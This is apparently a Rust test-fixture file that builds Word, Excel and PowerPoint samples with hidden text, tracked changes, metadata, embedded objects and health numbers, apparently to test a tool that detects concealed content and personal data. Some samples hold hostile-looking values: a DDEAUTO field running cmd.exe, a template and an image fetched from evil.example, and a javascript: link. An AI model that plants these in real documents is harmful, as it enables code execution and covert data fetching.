//! Word, Excel and PowerPoint.

use super::super::Family;
use super::super::make::*;

pub fn word() -> Family {
    let mut f = Family::new("Word", "docx");
    let mut body = |what, inside: &str| f.add(what, docx(inside, &[]));
    body("hidden text", &paragraph("<w:rPr><w:vanish/></w:rPr><w:t>a</w:t>"));
    body("hidden text, said with a word", &paragraph("<w:rPr><w:vanish w:val=\"true\"/></w:rPr><w:t>a</w:t>"));
    body("hidden text, said with “on”", &paragraph("<w:rPr><w:vanish w:val=\"on\"/></w:rPr><w:t>a</w:t>"));
    body("text hidden on screens", &paragraph("<w:rPr><w:webHidden/></w:rPr><w:t>secret words</w:t>"));
    body("text in white", &paragraph("<w:rPr><w:color w:val=\"FFFFFF\"/></w:rPr><w:t>secret words</w:t>"));
    body("text of half a point", &paragraph("<w:rPr><w:sz w:val=\"1\"/></w:rPr><w:t>secret words</w:t>"));
    for (what, look) in [
        ("text in a white of the theme", "<w:color w:themeColor=\"background1\"/>"),
        ("text in nearly white", "<w:color w:val=\"F8F8F8\"/>"),
        ("text of three points", "<w:sz w:val=\"6\"/>"),
        ("black on black", "<w:color w:val=\"000000\"/><w:shd w:val=\"clear\" w:fill=\"000000\"/>"),
        ("text under a black pen", "<w:highlight w:val=\"black\"/>"),
        ("text lowered out of the page", "<w:position w:val=\"-3000\"/>"),
    ] {
        body(what, &paragraph(&format!("<w:rPr>{look}</w:rPr><w:t>secret words</w:t>")));
    }
    for (what, place) in [
        ("a frame far off the page", "<w:framePr w:x=\"-20000\" w:y=\"-20000\"/>"),
        ("an indent out of the page", "<w:ind w:left=\"-30000\"/>"),
        ("a line of one point", "<w:spacing w:line=\"20\" w:lineRule=\"exact\"/>"),
    ] {
        body(what, &format!("<w:p><w:pPr>{place}</w:pPr><w:r><w:t>secret words</w:t></w:r></w:p>"));
    }
    body("a hidden row", "<w:tbl><w:tr><w:trPr><w:hidden/></w:trPr><w:tc><w:p/></w:tc></w:tr></w:tbl>");
    body("a private field", "<w:p><w:fldSimple w:instr=\" PRIVATE Jo is at home \"/></w:p>");
    body("a field of remarks", &paragraph("<w:instrText> COMMENTS \"Jo is at home\" </w:instrText>"));
    body("text put in", "<w:ins w:id=\"1\" w:author=\"Jo\"><w:r><w:t>a</w:t></w:r></w:ins>");
    body("text deleted", "<w:p><w:del w:id=\"1\"><w:r><w:delText>a</w:delText></w:r></w:del></w:p>");
    body("text moved", "<w:p><w:moveFrom w:id=\"1\"><w:r><w:t>a</w:t></w:r></w:moveFrom></w:p>");
    for change in [
        "pPrChange",
        "rPrChange",
        "sectPrChange",
        "tblPrChange",
        "tcPrChange",
        "trPrChange",
        "tblGridChange",
        "numberingChange",
    ] {
        f.add(
            "a changed format",
            docx(&format!("<w:p><w:pPr><w:{change} w:id=\"1\" w:author=\"Jo\"/></w:pPr></w:p>"), &[]),
        );
    }
    let mut body = |what, inside: &str| f.add(what, docx(inside, &[]));
    body(
        "a deleted cell",
        "<w:tbl><w:tr><w:tc><w:tcPr><w:cellDel w:id=\"1\" w:author=\"Jo\"/></w:tcPr><w:p/></w:tc></w:tr></w:tbl>",
    );
    body("a cell put in", "<w:tbl><w:tr><w:tc><w:tcPr><w:cellIns w:id=\"1\"/></w:tcPr><w:p/></w:tc></w:tr></w:tbl>");
    body(
        "numeric references",
        &paragraph(&format!("<w:t>NHS {}</w:t>", NHS.bytes().map(|b| format!("&#{b};")).collect::<String>())),
    );
    body("a number over several runs", "<w:p><w:r><w:t>NHS 943476</w:t></w:r><w:r><w:t>5919</w:t></w:r></w:p>");
    body(
        "a number beside a number",
        &format!(
            "<w:tbl><w:tr><w:tc><w:p><w:r><w:t>1</w:t></w:r></w:p></w:tc><w:tc><w:p><w:r><w:t>{NHS}</w:t></w:r></w:p></w:tc></w:tr></w:tbl>"
        ),
    );
    let cell = |text: &str| format!("<w:tc><w:p><w:r><w:t>{text}</w:t></w:r></w:p></w:tc>");
    body(
        "dates of birth under their heading",
        &format!(
            "<w:tbl><w:tr>{}{}</w:tr><w:tr>{}{}</w:tr></w:tbl>",
            cell("Name"),
            cell("Date of birth"),
            cell("A"),
            cell("03/04/2015")
        ),
    );
    body(
        "a description of a picture",
        &format!(
            "<w:p><w:r><w:drawing><wp:docPr xmlns:wp=\"urn:wp\" id=\"1\" name=\"P\" descr=\"NHS {NHS}\"/></w:drawing></w:r></w:p>"
        ),
    );
    body(
        "a list to choose from",
        &format!(
            "<w:sdt><w:sdtPr><w:dropDownList><w:listItem w:displayText=\"NHS {NHS}\" w:value=\"1\"/></w:dropDownList></w:sdtPr></w:sdt>"
        ),
    );
    body(
        "a field that fetches",
        "<w:p><w:r><w:instrText>INCLUDETEXT \"C:\\\\cases\\\\a.docx\"</w:instrText></w:r></w:p>",
    );
    body("a field that runs", "<w:p><w:r><w:instrText>DDEAUTO c:\\\\windows\\\\cmd.exe</w:instrText></w:r></w:p>");
    body("a chunk of another format", "<w:altChunk r:id=\"rId9\" xmlns:r=\"urn:r\"/>");
    let mut part = |what, name: &str, xml: String| f.add(what, docx("", &[(name, &xml)]));
    part(
        "a hidden style in use",
        "word/header1.xml",
        word_part("hdr", "<w:p><w:r><w:rPr><w:vanish/></w:rPr><w:t>a</w:t></w:r></w:p>"),
    );
    part("deleted words in a footnote", "word/footnotes.xml", word_part("footnotes", "<w:del w:id=\"1\"/>"));
    part("a health number in a footer", "word/footer1.xml", word_part("ftr", &paragraph(&format!("<w:t>{NHS}</w:t>"))));
    part(
        "comments",
        "word/comments.xml",
        word_part("comments", "<w:comment w:id=\"1\" w:author=\"Jo\"><w:p/></w:comment>"),
    );
    part(
        "answers to comments",
        "word/commentsExtended.xml",
        "<w15:commentsEx xmlns:w15=\"urn:15\"><w15:commentEx w15:paraId=\"1\"/></w15:commentsEx>".into(),
    );
    part("people", "word/people.xml", "<w15:people xmlns:w15=\"http://schemas.microsoft.com/office/word/2012/wordml\"><w15:person w15:author=\"Jo Bloggs\"/></w15:people>".into());
    part("an author", "docProps/core.xml", "<cp:coreProperties xmlns:cp=\"urn:cp\" xmlns:dc=\"urn:dc\"><dc:creator>Jo Bloggs</dc:creator></cp:coreProperties>".into());
    part(
        "an author under another prefix",
        "docProps/core.xml",
        "<coreProperties xmlns:q=\"urn:dc\"><q:creator>Jo Bloggs</q:creator></coreProperties>".into(),
    );
    part(
        "whoever saved it last",
        "docProps/core.xml",
        "<cp:coreProperties xmlns:cp=\"urn:cp\"><cp:lastModifiedBy>Jo Bloggs</cp:lastModifiedBy></cp:coreProperties>"
            .into(),
    );
    part(
        "a title",
        "docProps/core.xml",
        format!(
            "<cp:coreProperties xmlns:cp=\"urn:cp\"><dc:title xmlns:dc=\"urn:dc\">Child A, NHS {NHS}</dc:title></cp:coreProperties>"
        ),
    );
    part("a manager", "docProps/app.xml", "<Properties><Manager>Jo Bloggs</Manager></Properties>".into());
    part("a company", "docProps/app.xml", "<Properties><Company>Heron House Refuge</Company></Properties>".into());
    part(
        "a template's place",
        "docProps/app.xml",
        "<Properties><Template>C:\\Users\\jo.bloggs\\a.dotm</Template></Properties>".into(),
    );
    part("properties of its own", "docProps/custom.xml", "<Properties><property name=\"Case\"><vt:lpwstr xmlns:vt=\"urn:vt\">Child A</vt:lpwstr></property></Properties>".into());
    part("data of a program", "customXml/item1.xml", "<root><child>Sarah</child></root>".into());
    part(
        "variables",
        "word/settings.xml",
        word_part("settings", "<w:docVars><w:docVar w:name=\"a\" w:val=\"b\"/></w:docVars>"),
    );
    part(
        "a list of addresses",
        "word/settings.xml",
        word_part("settings", "<w:mailMerge><w:query w:val=\"SELECT * FROM x\"/></w:mailMerge>"),
    );
    part("a template elsewhere", "word/_rels/settings.xml.rels", "<Relationships><Relationship Id=\"r\" Type=\"http://x/attachedTemplate\" Target=\"http://evil.example/a.dotm\" TargetMode=\"External\"/></Relationships>".into());
    part("a picture elsewhere", "word/_rels/document.xml.rels", "<Relationships><Relationship Id=\"r\" Type=\"http://x/image\" Target=\"http://evil.example/a.png\" TargetMode=\"External\"/></Relationships>".into());
    part("a link to a server", "word/_rels/document.xml.rels", "<Relationships><Relationship Id=\"r\" Type=\"http://x/hyperlink\" Target=\"\\\\server01\\cases\\a.docx\" TargetMode=\"External\"/></Relationships>".into());
    part("a link that runs", "word/_rels/document.xml.rels", "<Relationships><Relationship Id=\"r\" Type=\"http://x/hyperlink\" Target=\"javascript:alert(1)\" TargetMode=\"External\"/></Relationships>".into());
    part("XML that is not whole", "word/header1.xml", "<w:hdr><w:p>".into());
    part("an entity of its own", "word/header1.xml", format!("<!DOCTYPE a [<!ENTITY x \"{NHS}\">]><a>&x;</a>"));
    let bytes = |what, name: &str, content: &[u8], f: &mut Family| {
        f.add(what, zip_bytes(&[("word/document.xml", b"<w:document/>"), (name, content)]))
    };
    bytes("a macro", "word/vbaProject.bin", b"\xd0\xcf\x11\xe0", &mut f);
    bytes("a control", "word/activeX/activeX1.bin", b"abcd", &mut f);
    bytes("another document", "word/embeddings/Workbook.xlsx", &xlsx("", &[]), &mut f);
    bytes(
        "a place in the picture of its first page",
        "docProps/thumbnail.jpeg",
        &jpeg(&[(0xe1, &exif(&[0x8825], 0))]),
        &mut f,
    );
    bytes("a picture with its place", "word/media/image1.jpg", &jpeg(&[(0xe1, &exif(&[0x8825], 0))]), &mut f);
    bytes("a part nobody knows", "word/secret.bin", b"words", &mut f);
    bytes("a font", "word/fonts/font1.odttf", b"abcdefgh", &mut f);
    f.add("a locked file of old", [0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1, 0, 0]);
    let styles = word_part(
        "styles",
        "<w:style w:styleId=\"H\"><w:rPr><w:vanish/></w:rPr></w:style><w:style w:styleId=\"K\"><w:basedOn w:val=\"H\"/></w:style>",
    );
    f.add(
        "a style based on a hidden one",
        docx(
            "<w:p><w:pPr><w:pStyle w:val=\"K\"/></w:pPr><w:r><w:t>secret words</w:t></w:r></w:p>",
            &[("word/styles.xml", &styles)],
        ),
    );
    f.named("a macro", "docm", zip_bytes(&[("word/document.xml", b"<w:document/>"), ("word/vbaProject.bin", b"x")]));
    f.named(
        "comments in a template",
        "dotx",
        docx("", &[("word/comments.xml", &word_part("comments", "<w:comment/>"))]),
    );
    f
}

pub fn excel() -> Family {
    let mut f = Family::new("Excel", "xlsx");
    let book = |inside: &str| format!("<workbook xmlns=\"urn:s\" xmlns:x=\"urn:s\">{inside}</workbook>");
    for (what, sheet) in [
        ("a hidden sheet", "<sheets><sheet name=\"A\" state=\"hidden\"/></sheets>"),
        ("a very hidden sheet", "<sheets><sheet name=\"A\" state=\"veryHidden\"/></sheets>"),
        ("a hidden sheet under a prefix", "<x:sheets><x:sheet name=\"A\" state='hidden'/></x:sheets>"),
        ("a hidden name", "<definedNames><definedName name=\"x\" hidden=\"1\">A</definedName></definedNames>"),
        (
            "a health number behind a name",
            "<definedNames><definedName name=\"x\">\"NHS 9434765919\"</definedName></definedNames>",
        ),
        (
            "the folder it lay in",
            "<AlternateContent><absPath url=\"C:\\Users\\jo.bloggs\\Cases\\\"/></AlternateContent>",
        ),
        ("whoever reserved it", "<fileSharing userName=\"Jo Bloggs\"/>"),
    ] {
        f.add(what, xlsx("", &[("xl/workbook.xml", &book(sheet))]));
    }
    for (what, sheet) in [
        ("a hidden row", "<sheetData><row r=\"1\" hidden=\"1\"/></sheetData>"),
        ("a hidden row, said with a word", "<sheetData><row r=\"1\" hidden=\"true\"/></sheetData>"),
        ("a hidden row, said with “on”", "<sheetData><row r=\"1\" hidden='on'/></sheetData>"),
        ("a hidden column", "<cols><col min=\"1\" max=\"1\" hidden=\"true\"/></cols>"),
        ("a column of no width", "<cols><col min=\"1\" max=\"1\" width=\"0\" customWidth=\"1\"/></cols>"),
        ("a row of no height", "<sheetData><row r=\"1\" ht=\"0\" customHeight=\"1\"/></sheetData>"),
        ("rows hidden all at once", "<sheetFormatPr zeroHeight=\"true\"/>"),
        ("a formula that fetches", "<sheetData><row><c><f>WEBSERVICE(\"http://x.example\")</f></c></row></sheetData>"),
        ("a health number in a formula", "<sheetData><row><c><f>\"NHS 9434765919\"</f><v>0</v></c></row></sheetData>"),
        (
            "a health number in a list to choose from",
            "<dataValidations><dataValidation><formula1>\"NHS 9434765919\"</formula1></dataValidation></dataValidations>",
        ),
        (
            "a health number in a prompt",
            "<dataValidations><dataValidation prompt=\"NHS 9434765919\"/></dataValidations>",
        ),
        ("a health number in a footer", "<headerFooter><oddFooter>NHS 9434765919</oddFooter></headerFooter>"),
        (
            "a health number beside a number",
            "<sheetData><row r=\"1\"><c r=\"A1\"><v>1</v></c><c r=\"B1\"><v>9434765919</v></c></row></sheetData>",
        ),
        (
            "a health number as Excel shortens it",
            "<sheetData><row r=\"1\"><c r=\"A1\"><v>9.434765919E9</v></c></row></sheetData>",
        ),
        ("a control", "<controls><control name=\"a\"/></controls>"),
        ("a scenario", "<scenarios><scenario name=\"a\" user=\"Jo Bloggs\"/></scenarios>"),
    ] {
        f.add(what, xlsx(sheet, &[]));
    }
    f.add("dates of birth under their heading", xlsx(&rows(&[&["Name", "Date of birth"], &["A", "03/04/2015"]]), &[]));
    let dated = "<styleSheet><cellXfs><xf numFmtId=\"0\"/><xf numFmtId=\"14\"/></cellXfs></styleSheet>";
    let births = "<sheetData><row r=\"1\"><c r=\"A1\" t=\"inlineStr\"><is><t>DOB</t></is></c></row><row r=\"2\"><c r=\"A2\" s=\"1\"><v>42097</v></c></row></sheetData>";
    f.add("dates of birth as days counted", xlsx(births, &[("xl/styles.xml", dated)]));
    let nothing = "<styleSheet><numFmts><numFmt numFmtId=\"164\" formatCode=\";;;\"/></numFmts><cellXfs><xf numFmtId=\"164\"/></cellXfs></styleSheet>";
    let value = "<sheetData><row r=\"1\"><c r=\"A1\" s=\"0\"><v>12</v></c></row></sheetData>";
    f.add("a format that shows nothing", xlsx(value, &[("xl/styles.xml", nothing)]));
    let white = "<styleSheet><fonts><font><color rgb=\"FFFFFFFF\"/></font></fonts><fills><fill><patternFill patternType=\"none\"/></fill></fills><cellXfs><xf fontId=\"0\" fillId=\"0\"/></cellXfs></styleSheet>";
    f.add("words in white", xlsx(value, &[("xl/styles.xml", white)]));
    for (what, name, xml) in [
        (
            "comments",
            "xl/comments1.xml",
            "<comments><authors><author>Jo Bloggs</author></authors><commentList><comment ref=\"A1\"/></commentList></comments>",
        ),
        (
            "comments with answers",
            "xl/threadedComments/threadedComment1.xml",
            "<ThreadedComments><threadedComment ref=\"A1\"/></ThreadedComments>",
        ),
        ("people", "xl/persons/person.xml", "<personList><person displayName=\"Jo Bloggs\"/></personList>"),
        ("another workbook", "xl/externalLinks/externalLink1.xml", "<externalLink/>"),
        ("a connection", "xl/connections.xml", "<connections><connection id=\"1\" name=\"db\"/></connections>"),
        ("a query", "xl/queryTables/queryTable1.xml", "<queryTable name=\"q\"/>"),
        ("rows behind a pivot table", "xl/pivotCache/pivotCacheRecords1.xml", "<pivotCacheRecords/>"),
        ("what is listed behind a pivot table", "xl/pivotCache/pivotCacheDefinition1.xml", "<pivotCacheDefinition/>"),
        ("changes", "xl/revisions/revisionHeaders.xml", "<headers/>"),
        ("whoever opened it", "xl/revisions/userNames.xml", "<users/>"),
        ("strings of deleted cells", "xl/sharedStrings.xml", "<sst><si><t>NHS 9434765919</t></si></sst>"),
        ("a macro sheet", "xl/macrosheets/sheet1.xml", "<macrosheet/>"),
        ("a control", "xl/activeX/activeX1.xml", "<ocx/>"),
        ("an add-in", "xl/webextensions/webextension1.xml", "<webextension/>"),
        (
            "a picture's description",
            "xl/drawings/drawing1.xml",
            "<wsDr><cNvPr id=\"1\" name=\"p\" descr=\"NHS 9434765919\"/></wsDr>",
        ),
        ("a hidden picture", "xl/drawings/drawing1.xml", "<wsDr><cNvPr id=\"1\" name=\"p\" hidden=\"1\"/></wsDr>"),
        (
            "a chart's values",
            "xl/charts/chart1.xml",
            "<chartSpace><strCache><pt><v>NHS 9434765919</v></pt></strCache></chartSpace>",
        ),
        ("a button", "xl/drawings/drawing1.xml", "<wsDr><sp macro=\"Module1.Run\"/></wsDr>"),
    ] {
        f.add(what, xlsx("", &[(name, xml)]));
    }
    let printer: Vec<u8> = "\\\\printserver\\Floor 2 HP".encode_utf16().flat_map(u16::to_le_bytes).collect();
    f.add(
        "a printer on a server",
        zip_bytes(&[("xl/workbook.xml", b"<workbook/>"), ("xl/printerSettings/printerSettings1.bin", &printer)]),
    );
    f
}

pub fn powerpoint() -> Family {
    let mut f = Family::new("PowerPoint", "pptx");
    f.add("a hidden slide", pptx("", " show=\"0\"", &[]));
    f.add("a hidden slide, said with a word", pptx("", " show=\"false\"", &[]));
    f.add(
        "a health number on a slide",
        pptx(&format!("<p:sp><a:p><a:r><a:t>NHS {NHS}</a:t></a:r></a:p></p:sp>"), "", &[]),
    );
    f.add(
        "a hidden picture",
        pptx("<p:pic><p:nvPicPr><p:cNvPr id=\"1\" name=\"a\" hidden=\"1\"/></p:nvPicPr></p:pic>", "", &[]),
    );
    f.add(
        "a picture's description",
        pptx(&format!("<p:pic><p:cNvPr id=\"1\" name=\"a\" descr=\"NHS {NHS}\"/></p:pic>"), "", &[]),
    );
    f.add("words beside the slide", pptx("<p:sp><p:spPr><a:xfrm><a:off x=\"9900000\" y=\"0\"/><a:ext cx=\"100\" cy=\"100\"/></a:xfrm></p:spPr></p:sp>", "", &[]));
    f.add("tiny words", pptx("<p:sp><a:p><a:r><a:rPr sz=\"100\"/><a:t>Sarah</a:t></a:r></a:p></p:sp>", "", &[]));
    let shape = |place: &str, look: &str| {
        format!(
            "<p:sp><p:nvSpPr><p:cNvPr id=\"2\" name=\"a\"/></p:nvSpPr><p:spPr>{place}</p:spPr><p:txBody><a:p><a:r>{look}<a:t>secret words</a:t></a:r></a:p></p:txBody></p:sp>"
        )
    };
    let at = |x: i64, size: i64, more: &str| {
        format!("<a:xfrm><a:off x=\"{x}\" y=\"{x}\"/><a:ext cx=\"{size}\" cy=\"{size}\"/></a:xfrm>{more}")
    };
    let solid = "<a:prstGeom prst=\"rect\"/><a:solidFill><a:srgbClr val=\"FFFFFF\"/></a:solidFill>";
    let white = "<a:rPr><a:solidFill><a:srgbClr val=\"FFFFFF\"/></a:solidFill></a:rPr>";
    f.add("white words", pptx(&shape("", white), "", &[]));
    f.add("words of three points", pptx(&shape("", "<a:rPr sz=\"300\"/>"), "", &[]));
    f.add("words under a shape", pptx(&[shape(&at(100, 50, ""), ""), shape(&at(0, 500, solid), "")].concat(), "", &[]));
    f.add(
        "a group beside the slide",
        pptx(&format!("<p:grpSp><p:grpSpPr><a:xfrm><a:off x=\"9900000\" y=\"0\"/><a:ext cx=\"100\" cy=\"100\"/><a:chOff x=\"0\" y=\"0\"/><a:chExt cx=\"100\" cy=\"100\"/></a:xfrm></p:grpSpPr>{}</p:grpSp>", shape(&at(0, 90, ""), "")), "", &[]),
    );
    f.add("a button", pptx("<a:hlinkClick action=\"ppaction://program\"/>", "", &[]));
    for (what, name, xml) in [
        (
            "notes of the speaker",
            "ppt/notesSlides/notesSlide1.xml",
            "<p:notes xmlns:a=\"urn:a\" xmlns:p=\"urn:p\"><a:p><a:r><a:t>Do not mention Sarah</a:t></a:r></a:p></p:notes>",
        ),
        ("comments", "ppt/comments/comment1.xml", "<p:cmLst xmlns:p=\"urn:p\"><p:cm authorId=\"0\"/></p:cmLst>"),
        (
            "comments of today",
            "ppt/comments/modernComment_1.xml",
            "<p188:cmLst xmlns:p188=\"urn:p\"><p188:cm id=\"0\"/></p188:cmLst>",
        ),
        (
            "whoever commented",
            "ppt/commentAuthors.xml",
            "<p:cmAuthorLst xmlns:p=\"urn:p\"><p:cmAuthor id=\"1\" name=\"Jo Bloggs\"/></p:cmAuthorLst>",
        ),
        (
            "whoever commented, today",
            "ppt/authors.xml",
            "<p188:authorLst xmlns:p188=\"http://schemas.microsoft.com/office/powerpoint/2018/8/main\"><p188:author id=\"1\" name=\"Jo Bloggs\"/></p188:authorLst>",
        ),
        ("changes", "ppt/changesInfos/changesInfo1.xml", "<pc:chgInfo xmlns:pc=\"urn:pc\"/>"),
        (
            "data of a program",
            "ppt/tags/tag1.xml",
            "<p:tagLst xmlns:p=\"urn:p\"><p:tag name=\"CASE\" val=\"Child A\"/></p:tagLst>",
        ),
        (
            "an author",
            "docProps/core.xml",
            "<cp:coreProperties xmlns:cp=\"urn:cp\"><dc:creator xmlns:dc=\"urn:dc\">Jo Bloggs</dc:creator></cp:coreProperties>",
        ),
    ] {
        f.add(what, pptx("", "", &[(name, xml)]));
    }
    f.add(
        "another document",
        zip_bytes(&[("ppt/presentation.xml", b"<p:presentation/>"), ("ppt/embeddings/a.xlsx", &xlsx("", &[]))]),
    );
    f.add(
        "a film with its place",
        zip_bytes(&[
            ("ppt/presentation.xml", b"<p:presentation/>"),
            ("ppt/media/a.mp4", &mp4(&boxed(b"udta", &boxed(b"\xa9xyz", b"\0\x12\0\0+51.5074-000.1278/")), b"")),
        ]),
    );
    f
}
